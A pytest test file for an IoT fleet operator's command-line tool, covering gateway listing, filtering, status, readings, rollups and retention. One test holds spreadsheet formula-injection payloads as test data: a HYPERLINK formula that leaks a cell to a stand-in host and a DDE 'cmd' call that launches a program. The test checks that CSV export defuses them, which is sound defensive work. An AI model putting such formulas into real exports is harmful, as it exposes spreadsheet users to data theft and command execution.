"""The operator's registry and data commands against a real store, on both backends:
``fleet gateways list|show``, ``fleet devices list``, ``fleet status``, ``fleet readings``
(ranges, buckets, formats) and the ``--where`` filter, run in process with Typer's
CliRunner. The store is filled the way ingest fills it: wire payloads decoded by the
contract, written in rounds."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from typer.testing import CliRunner

from central.store import Retention, open_store
from central.store.rows import Identity
from cli.fleet import app as fleet_app
from edge_agent.contract import decode_health, decode_state, decode_telemetry
from edge_agent.contract.payloads import dumps

WIDE = {"COLUMNS": "200", "FORCE_COLOR": None, "NO_COLOR": None}
HOUR = 3600.0
NOW = time.time()
T0 = (NOW // 86_400 - 1) * 86_400  # midnight UTC yesterday: whole minutes, whole hours


def wire(obj: dict[str, Any]) -> bytes:
    return dumps(obj)


def run(*args: str) -> Result:
    return CliRunner().invoke(fleet_app, list(args), env=dict(WIDE))


def ok(*args: str) -> Result:
    result = run(*args)
    assert result.exit_code == 0, result.output
    return result


GATEWAYS = 12
"""gw-00 … gw-11: the even ones online, in site ``north`` (the first six) or ``south``."""


@pytest.fixture
def db(store_address: str) -> Iterator[str]:
    store = open_store(store_address)
    try:
        with store.round() as rnd:
            for i in range(GATEWAYS):
                gw = f"gw-{i:02d}"
                state = {
                    "gw": gw,
                    "online": True,
                    "site": "north" if i < 6 else "south",
                    "agent_version": "0.2.0" if i < 3 else "0.1.0",
                    "tags": {"district": "d1" if i % 3 == 0 else "d2"},
                }
                rnd.update_state(gw, decode_state(wire(state)))
                if i % 2:  # its Last Will: offline keeps what the online state said
                    rnd.update_state(gw, decode_state(wire({"gw": gw, "online": False})))
            health = {
                "gw": "gw-00",
                "ts": NOW,
                "outbox": {"depth": 1500},
                "devices": {
                    "tank-1": {"link": "up", "reason": None, "last_good": NOW - 5},
                    "door-1": {"link": "down", "reason": "timeout", "last_good": NOW - 900},
                },
            }
            rnd.update_health("gw-00", decode_health(wire(health)))
            # one point, a reading a minute for two hours of yesterday: 1..120
            readings = [
                {"dev": "tank-1", "pt": "level", "v": float(i + 1), "q": "good", "ts": T0 + 60 * i}
                for i in range(120)
            ]
            batch = {"gw": "gw-00", "stream": "s1", "seq_first": 1, "seq_last": 120}
            rnd.insert_telemetry(decode_telemetry(wire(batch | {"readings": readings})))
            south = {"dev": "tank-9", "pt": "level", "v": 7.0, "q": "good", "ts": T0 + 30}
            batch = {"gw": "gw-07", "stream": "s7", "seq_first": 1, "seq_last": 1}
            rnd.insert_telemetry(decode_telemetry(wire(batch | {"readings": [south]})))
    finally:
        store.close()
    yield store_address


def ids(result: Result) -> list[str]:
    return [row["id"] for row in json.loads(result.stdout)]


def test_gateways_list_pages_in_id_order_and_says_how_to_ask_for_the_next(db: str) -> None:
    first = ok("gateways", "list", "--db", db, "--limit", "5", "--json")
    assert ids(first) == [f"gw-{i:02d}" for i in range(5)]
    second = ok("gateways", "list", "--db", db, "--limit", "5", "--after", "gw-04", "--json")
    assert ids(second) == [f"gw-{i:02d}" for i in range(5, 10)]
    table = ok("gateways", "list", "--db", db, "--limit", "5")
    assert "gw-04" in table.stdout and "gw-05" not in table.stdout
    assert "--after gw-04" in table.stderr
    last = ok("gateways", "list", "--db", db, "--after", "gw-09")
    assert "more match" not in last.stderr
    every = ok("gateways", "list", "--db", db, "--limit", "1", "--all", "--jsonl")
    lines = every.stdout.splitlines()
    assert [json.loads(line)["id"] for line in lines] == [f"gw-{i:02d}" for i in range(GATEWAYS)]


def test_where_filters_in_the_store_by_site_tag_state_version_and_id(db: str) -> None:
    def where(text: str) -> list[str]:
        return ids(ok("gateways", "list", "--db", db, "--all", "--json", "--where", text))

    assert where("site=north,state=offline") == ["gw-01", "gw-03", "gw-05"]
    assert where("tag.district=d1") == ["gw-00", "gw-03", "gw-06", "gw-09"]
    assert where("version=0.2.0,state=online") == ["gw-00", "gw-02"]
    assert where("id=gw-07,id=gw-08") == ["gw-07", "gw-08"]
    assert where("site=nowhere") == []


@pytest.mark.parametrize(
    ("clause", "says"),
    [
        ("stat=offline", "'stat' is not a gateway field"),
        ("state=asleep", "state is online or offline"),
        ("site", "is not KEY=VALUE"),
        ("site=a,site=b", "site is given twice"),
        # PostgreSQL kept the last (d2), SQLite wanted both (none): the two stores disagreed
        ("tag.district=d1,tag.district=d2", "tag.district is given twice"),
        # an empty selection (an unset shell variable) must not mean the whole fleet
        ("", "names no gateway field"),
        (" , ", "names no gateway field"),
        # a byte from a Latin-1 terminal (argv's surrogateescape): no store encodes it
        ("site=caf\udce9", "is not UTF-8 text"),
    ],
)
def test_a_bad_where_clause_is_a_usage_error_naming_the_fields(
    db: str, clause: str, says: str
) -> None:
    result = run("gateways", "list", "--db", db, "--where", clause)
    assert result.exit_code == 2
    assert says in result.output


def test_fleet_cmd_with_an_empty_where_sends_nothing(db: str, tmp_path: Path) -> None:
    """``fleet cmd --where "$SELECTION" restart`` with the variable unset restarted every
    gateway of the fleet; it is a usage error before anything is sent."""
    result = run("cmd", "--db", db, "--where", "", "restart", "--key", str(tmp_path / "k"))
    assert result.exit_code == 2, result.output
    assert "names no gateway field" in result.output


def test_where_matches_tag_names_and_values_of_any_characters_on_both_stores(db: str) -> None:
    """A tag name holding a quote, a dot or CJK text, and values compared as text: both
    stores answer the same (SQLite's JSON path could not name a key with a quote, and
    it compared a nested object's JSON text with the value where PostgreSQL does not)."""
    tags = {'a"b': "q", "floor.no": "3", "区": "东", "nested": {"x": "1"}, "n": 3, "l": ["x"]}
    store = open_store(db)
    try:
        with store.round() as rnd:
            state = {"gw": "gw-tags", "online": True, "tags": tags}
            rnd.update_state("gw-tags", decode_state(wire(state)))
    finally:
        store.close()

    def where(text: str) -> list[str]:
        return ids(ok("gateways", "list", "--db", db, "--all", "--json", "--where", text))

    assert where('tag.a"b=q') == ["gw-tags"]
    assert where("tag.floor.no=3,tag.区=东") == ["gw-tags"]
    assert where('tag.nested={"x":"1"}') == []
    assert where("tag.n=3") == []  # a number is not the text 3, on both stores
    assert where("tag.l=x") == []  # nor is a list holding it


def test_gateways_show_has_devices_and_exits_1_for_an_unknown_gateway(db: str) -> None:
    shown = json.loads(ok("gateways", "show", "gw-00", "--db", db, "--json").stdout)
    assert shown["site"] == "north" and shown["online"] is True
    assert shown["outbox_depth"] == 1500
    assert {d["device"]: d["link"] for d in shown["devices"]} == {"door-1": "down", "tank-1": "up"}
    text = ok("gateways", "show", "gw-00", "--db", db).stdout
    assert "site: north" in text and "tank-1" in text
    missing = run("gateways", "show", "gw-99", "--db", db)
    assert missing.exit_code == 1 and "no such gateway: gw-99" in missing.output


def test_devices_list_gives_link_and_last_good_reading(db: str) -> None:
    rows = json.loads(ok("devices", "list", "gw-00", "--db", db, "--json").stdout)
    by = {r["device"]: r for r in rows}
    assert by["door-1"]["link"] == "down" and by["door-1"]["error"] == "timeout"
    assert by["tank-1"]["last_good"] == pytest.approx(NOW - 5)
    assert ok("devices", "list", "--where", "site=south", "--db", db, "--json").stdout.strip() == (
        "[]"
    )
    table = ok("devices", "list", "--db", db).stdout
    assert "door-1" in table and "timeout" in table


def test_status_counts_the_fleet_in_the_store(db: str) -> None:
    status = json.loads(ok("status", "--db", db, "--json").stdout)
    assert status["gateways"] == GATEWAYS
    assert (status["online"], status["offline"]) == (6, 6)
    assert status["with_backlog"] == 1
    assert status["versions"] == {"0.1.0": 9, "0.2.0": 3}
    drawn = ok("status", "--db", db).stdout
    assert "offline" in drawn and "0.2.0 ×3" in drawn


def test_status_lists_the_certificates_that_expire_within_30_days(db: str) -> None:
    now, day = time.time(), 86_400.0
    store = open_store(db)
    try:
        store.add_identity(Identity("gw-00", "certificate", "a" * 64, now - day, now + 3 * day))
        store.add_identity(Identity("gw-01", "certificate", "b" * 64, now - day, now + 99 * day))
        # gw-02's old certificate expires soon, but it was renewed: nothing to do
        store.add_identity(Identity("gw-02", "certificate", "c" * 64, now - 9 * day, now + day))
        store.add_identity(Identity("gw-02", "certificate", "d" * 64, now, now + 800 * day))
        store.add_identity(Identity("gw-03", "certificate", "e" * 64, now - day, now + 9 * day))
    finally:
        store.close()
    status = json.loads(ok("status", "--db", db, "--json").stdout)
    assert [c["gateway"] for c in status["certificates_expiring"]] == ["gw-00", "gw-03"]
    drawn = ok("status", "--db", db).stdout
    assert "certificates expiring in 30 days" in drawn
    assert "gw-00" in drawn and "gw-03" in drawn and "gw-02" not in drawn


def test_readings_in_a_range_oldest_first_as_csv_and_jsonl(db: str) -> None:
    args = ("readings", "--db", db, "-g", "gw-00", "-p", "level")
    window = ("--from", str(T0 + 600), "--to", str(T0 + 900), "--all", "--oldest-first")
    rows = list(csv.DictReader(io.StringIO(ok(*args, *window, "--format", "csv").stdout)))
    assert [r["value"] for r in rows] == ["11", "12", "13", "14", "15"]  # [+10 min, +15 min)
    assert rows[0]["ts"].endswith("Z") and "T" in rows[0]["ts"]
    lines = ok(*args, *window, "--jsonl").stdout.splitlines()
    assert [json.loads(line)["value"] for line in lines] == [11.0, 12.0, 13.0, 14.0, 15.0]
    iso = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(T0 + 600))
    same = ok(*args, "--from", iso, "--to", str(T0 + 900), "--all", "--json")
    assert len(json.loads(same.stdout)) == 5
    newest = json.loads(ok(*args, "--limit", "2", "--json").stdout)
    assert [r["value"] for r in newest] == [120.0, 119.0]


def test_readings_per_bucket_from_the_rollups(db: str) -> None:
    args = ("readings", "--db", db, "-g", "gw-00", "-p", "level", "--from", str(T0))
    hourly = json.loads(ok(*args, "--bucket", "1h", "--json").stdout)
    assert [(b["start"], b["count"], b["min"], b["max"]) for b in hourly] == [
        (T0, 60, 1.0, 60.0),
        (T0 + HOUR, 60, 61.0, 120.0),
    ]
    assert hourly[0]["avg"] == pytest.approx(30.5)
    only = json.loads(ok(*args, "--bucket", "15m", "--agg", "max", "--json").stdout)
    assert [set(b) for b in only[:1]] == [{"start", "gateway", "device", "point", "max"}]
    assert [b["max"] for b in only] == [15.0, 30.0, 45.0, 60.0, 75.0, 90.0, 105.0, 120.0]
    table = ok(*args, "--bucket", "1h", "--agg", "avg,count").stdout
    assert "30.5" in table and "90.5" in table


@pytest.mark.parametrize(
    ("extra", "says"),
    [
        (("--bucket", "90s"), "whole number of minutes"),
        (("--bucket", "1h", "--agg", "median"), "--agg takes avg, min, max, count"),
        (("--from", "yesterday"), "is not a time"),
        (("--since", "1h", "--from", "2h"), "not both"),
        (("--from", "2h", "--to", "3h"), "--to must be after"),
        # past every calendar (9 * 400 reads as infinity): a usage error, never a traceback
        (("--from", "9" * 20, "--bucket", "1m"), "not a time"),
        (("--from", "9" * 400), "not a time"),
        (("--to", "9" * 400, "--bucket", "1h"), "not a time"),
    ],
)
def test_bad_readings_options_are_usage_errors(db: str, extra: tuple[str, ...], says: str) -> None:
    result = run("readings", "--db", db, *extra)
    assert result.exit_code == 2
    assert says in result.output


def test_retention_keeps_the_rollups_that_readings_bucket_returns(db: str) -> None:
    """Raw readings past their retention go (on PostgreSQL with whole partitions); their
    1-minute rollups stay, and ``--bucket 1m`` still returns them."""
    store = open_store(db)
    try:
        # a day's partition goes once the whole day is past the raw retention
        done = store.maintain(Retention(raw_s=86_400.0, rollups_s=None), now=T0 + 3 * 86_400)
        assert store.count_readings() == 0
        assert done.readings_deleted == 121
        if store.backend == "postgresql":  # by dropping the day's partition, not row by row
            assert done.partitions_dropped == 1
    finally:
        store.close()
    raw = json.loads(ok("readings", "--db", db, "-g", "gw-00", "--all", "--json").stdout)
    assert raw == []
    minutes = json.loads(
        ok(
            "readings", "--db", db, "-g", "gw-00", "--from", str(T0), "--bucket", "1m", "--json"
        ).stdout
    )
    assert len(minutes) == 120
    assert [(m["start"], m["count"], m["avg"]) for m in minutes[:2]] == [
        (T0, 1, 1.0),
        (T0 + 60, 1, 2.0),
    ]


def test_csv_never_hands_a_spreadsheet_a_formula_a_gateway_sent(store_address: str) -> None:
    """A gateway's text (a value, a device id, a unit, a reason) that a spreadsheet would
    run as a formula is written with a leading apostrophe; numbers, and text that is
    only a number, are written as they are; ``rules test --replay`` reads the text back."""
    from edge_agent.rules.series import parse_value  # noqa: PLC0415

    sent = [
        ('=HYPERLINK("http://x.invalid/?"&A1,"open")', "=cmd|'/C calc'!A0", "+1+1", None),
        (None, "@SUM(1+1)", "-2+3", "\tx"),
        ("-5", "dev-1", "°C", None),
        (-3.5, "dev-1", "-", None),
        (None, "dev-1", None, "\r=1"),
    ]
    readings = [
        {"dev": dev, "pt": "p", "v": v, "u": u, "q": "good", "ts": T0 + i}
        | ({} if r is None else {"q": "bad", "r": r, "v": None})
        for i, (v, dev, u, r) in enumerate(sent)
    ]
    store = open_store(store_address)
    try:
        with store.round() as rnd:
            batch = {"gw": "gw-00", "stream": "s1", "seq_first": 1, "seq_last": len(sent)}
            rnd.insert_telemetry(decode_telemetry(wire(batch | {"readings": readings})))
    finally:
        store.close()
    out = ok("readings", "--db", store_address, "--all", "--oldest-first", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    cells = [(r["value"], r["device"], r["unit"], r["reason"]) for r in rows]
    assert cells == [
        ('\'=HYPERLINK("http://x.invalid/?"&A1,"open")', "'=cmd|'/C calc'!A0", "'+1+1", ""),
        ("", "'@SUM(1+1)", "'-2+3", "'\tx"),
        ("-5", "dev-1", "°C", ""),
        ("-3.5", "dev-1", "'-", ""),
        ("", "dev-1", "", "'\r=1"),
    ]
    assert parse_value(cells[0][0], carries_text=True) == sent[0][0]
